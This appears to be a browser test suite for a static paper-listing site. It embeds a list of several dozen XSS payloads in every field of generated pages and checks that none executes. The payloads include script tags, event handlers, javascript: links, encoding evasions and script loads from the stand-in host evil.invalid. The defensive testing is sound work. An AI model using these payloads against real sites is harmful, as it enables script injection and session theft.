"""Hundreds of strings that would run a script, load something or leave their element, in every field of a site: in a
real browser none does, neither with the site's content security policy nor where a server or browser drops that.
"""

import json
from collections.abc import Callable, Iterator
from itertools import product
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import Watched
from tests.builders import write_files
from tests.built_site import BuiltSite
from tests.command import SOAK, digest_here
from tests.pages_server import serving

Open = Callable[..., Watched]

WAYS_OUT = ("", '">', "'>", "-->", "]]>", "</title></script></style></textarea>")
"""What ends the element, attribute, comment or script that a string may stand in."""
STRINGS = """
<script>alert(1)</script>
<ScRiPt src=//evil.invalid/a.js></sCrIpT>
<script type=module>import('//evil.invalid/b.js')</script>
<img src=x onerror=alert(1)>
<img src=//evil.invalid/c.png>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><use href=//evil.invalid/d.svg#e /></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>
<math><annotation-xml encoding=text/html><script>alert(1)</script>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>
<object data=//evil.invalid/f></object><embed src=//evil.invalid/g>
<a href=javascript:alert(1) autofocus onfocus=alert(1)>a</a>
<form action=javascript:alert(1)><input autofocus onfocus=alert(1)></form>
<details open ontoggle=alert(1)>
<video autoplay><source src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<body onload=alert(1)><marquee onstart=alert(1)>
<style>@import '//evil.invalid/h.css'; body { background: url(//evil.invalid/i) }</style>
<link rel=stylesheet href=//evil.invalid/j.css><link rel=preload as=script href=//evil.invalid/k.js>
<meta http-equiv=refresh content='0;url=//evil.invalid/l'>
<base href=//evil.invalid/>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<select><style></select><img src=x onerror=alert(1)></style>
<p style=animation-name:x onanimationstart=alert(1)>
onmouseover=alert(1) autofocus onfocus=alert(1) tabindex=1 x=
[a](javascript:alert(1)) ![b](javascript:alert(1)) <javascript:alert(1)>
[a](data:text/html,<script>alert(1)</script>) ![b](//evil.invalid/m.png)
[a](https://a.example/"onmouseover="alert(1)) [b]: javascript:alert(1)
$\\href{javascript:alert(1)}{x}$ $\\unicode{<img src=x onerror=alert(1)>}$
$\\style{x:expression(alert(1))}{y}$ $<img src=x onerror=alert(1)>$
$\\text{<img src=x onerror=alert(1)>}$ $\\class{x" onload="alert(1)}{y}$
`<img src=x onerror=alert(1)>` ~~~html <script>alert(1)</script> ~~~
{{ alert(1) }} ${alert(1)} {% alert(1) %} <%= alert(1) %> #{alert(1)}
&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003ealert(1)\\u003c/script\\u003e
\\x3cimg src=x onerror=alert(1)\\x3e ＜script＞alert(1)＜/script＞
java\tscript:alert(1) JaVaScRiPt:alert(1) javascript&colon;alert(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== vbscript:alert(1)
<!--[if IE]><script>alert(1)</script><![endif]--> <!--><img src=x onerror=alert(1)>
<?xml-stylesheet href=javascript:alert(1)?><!DOCTYPE x [<!ENTITY y SYSTEM "//evil.invalid/n">]>&y;
<x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script>
<div data-paper=x data-search-state=done><template id=x></template><a id=alert name=alert>
__proto__ constructor toString <b id=config><b id=urls>
<img src=x onerror=alert&lpar;1&rpar;><a href=&#106;avascript:alert(1)>a</a>
'-alert(1)-' "-alert(1)-" \\'-alert(1)// `-alert(1)-` ;alert(1)// */alert(1)/*
<input type=image src=x onerror=alert(1)><keygen autofocus onfocus=alert(1)>
""".strip().split("\n")
WATCH = """
window.ran = [];
for (const name of ["alert", "confirm", "prompt", "open", "print"]) window[name] = () => { window.ran.push(name); };
"""
"""What runs in each page before anything of it does."""


def hostile() -> list[str]:
    return [way + string for way, string in product(WAYS_OUT, STRINGS)]


def a_paper(number: int, text: str) -> str:
    """A seed in Markdown with the same text in every field."""
    fields = {
        "title": f"{text} {number}",
        "date": f"2025-05-{1 + number % 9:02}",
        "authors": [text, f"Ann {text}"],
        "tags": [text],
        "venue": text,
        "links": {text: f"https://a.example/{text}", "Code": text},
        "alias": text,
        "doi": text,
    }
    said = "\n".join(f"{key} = {inline(value)}" for key, value in fields.items())
    return f"+++\n{said}\n+++\nWe present Foo{number} ({text}) and say {text} of it.\n\n{text}\n"


def inline(value: object) -> str:
    """A value in TOML on one line."""
    if isinstance(value, dict):
        return "{" + ", ".join(f"{inline(key)} = {inline(item)}" for key, item in value.items()) + "}"
    return json.dumps(value)


def files_of_a_site() -> dict[str, str]:
    """Every string in every field of a paper; and some in a pasted page, a saved page, and what configures."""
    strings = hostile()
    papers = {f"seeds/{number}.md": a_paper(number, text) for number, text in enumerate(strings)}
    page = "\n\n".join(f"{text} in a Title\n\nWe say {text} in an abstract, which goes on." for text in strings[::9])
    saved = f"<html><body><h2>A Saved Title {strings[3]}</h2><p>We save {strings[3]} and more.</p></body></html>"
    odd = strings[len(STRINGS) + 3]
    rules = f"[tags.lamps]\nlabel = {inline(odd)}\nmeaning = {inline(odd)}\nphrases = ['we say']\n"
    site = f"[site]\ntitle = {inline(odd)}\ndescription = {inline(odd)}\n"
    corrected = f"[papers.foo]\ntitle = {inline(odd)}\nalias = [{inline(odd)}]\n"
    return papers | {
        "seeds/2025-05-28.txt": page,
        "seeds/2025-05-29.html": saved,
        f"seeds/{odd.replace('/', '')}.txt": f"A Title Of One Paper\n\nWe show {odd} in an abstract.\n",
        "seeds/foo.md": "---\ntitle: Foo\n---\nWe do it.\n",
        "seeds/papers.toml": corrected,
        "tags.toml": rules,
        "digest.toml": f'{site}[tags]\nrules = "tags.toml"\n',
    }


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> BuiltSite:
    home = write_files(tmp_path_factory.mktemp("hostile"), files_of_a_site())
    done = digest_here("build", "--quiet", cwd=home)
    assert done.status == 0, done.stderr
    return BuiltSite(home / "site")


@pytest.fixture(scope="module")
def address(site: BuiltSite) -> Iterator[str]:
    with serving({"/": Path(site.folder)}) as served:
        yield served


def ran(page: Page) -> bool:
    """Whether anything of a page called what only a hostile string calls, or framed or replaced the page."""
    page.wait_for_load_state("networkidle")
    return bool(page.evaluate("window.ran.length")) or len(page.frames) > 1


def pages_to_visit(site: BuiltSite) -> list[str]:
    """All lists and every kind of page, and a part of the papers; in `make soak` all."""
    papers = [path for path in site.pages if path.startswith("papers/")]
    others = [path for path in site.pages if not path.startswith(("papers/", "tags/", "names/"))]
    some = [path for folder in ("tags/", "names/") for path in site.pages if path.startswith(folder)]
    return [*site.pages] if SOAK else [*others[:12], *some[::50], *papers[::20]]


def test_there_are_enough_of_them_and_each_is_on_the_site(site: BuiltSite) -> None:
    assert len(hostile()) >= 300
    assert len(site.papers) >= len(hostile())


@pytest.mark.parametrize("without_policy", [True, False])
def test_no_string_runs_or_fetches_anything(
    opened: Open, site: BuiltSite, address: str, *, without_policy: bool
) -> None:
    page = opened(bypass_csp=without_policy).page
    page.add_init_script(WATCH)
    for path in pages_to_visit(site)[:: 1 if without_policy or SOAK else 4]:
        page.goto(f"{address}/{quote(path)}")
        assert not ran(page), path


@pytest.mark.parametrize("text", [STRINGS[3], '"><img src=x onerror=alert(1)>', "alert(1)"])
def test_no_string_runs_in_a_search(opened: Open, address: str, text: str) -> None:
    page = opened(bypass_csp=True).page
    page.add_init_script(WATCH)
    page.goto(f"{address}/search.html?q={quote(text)}&tag={quote(text)}")
    page.wait_for_selector("[data-search-state=done]")
    assert not ran(page)
    page.locator("input[name=q]").press_sequentially("saved title", delay=10)
    page.wait_for_selector("[data-search-state=done]")
    assert not ran(page)


def test_one_that_runs_would_be_seen(opened: Open, address: str) -> None:
    page = opened(bypass_csp=True).page
    page.add_init_script(WATCH)
    page.goto(f"{address}/404.html")
    assert not ran(page)
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<svg onload=alert(1)></svg><img src=data:,>')")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<details open ontoggle=alert(1)></details>')")
    page.wait_for_function("window.ran.length > 0")
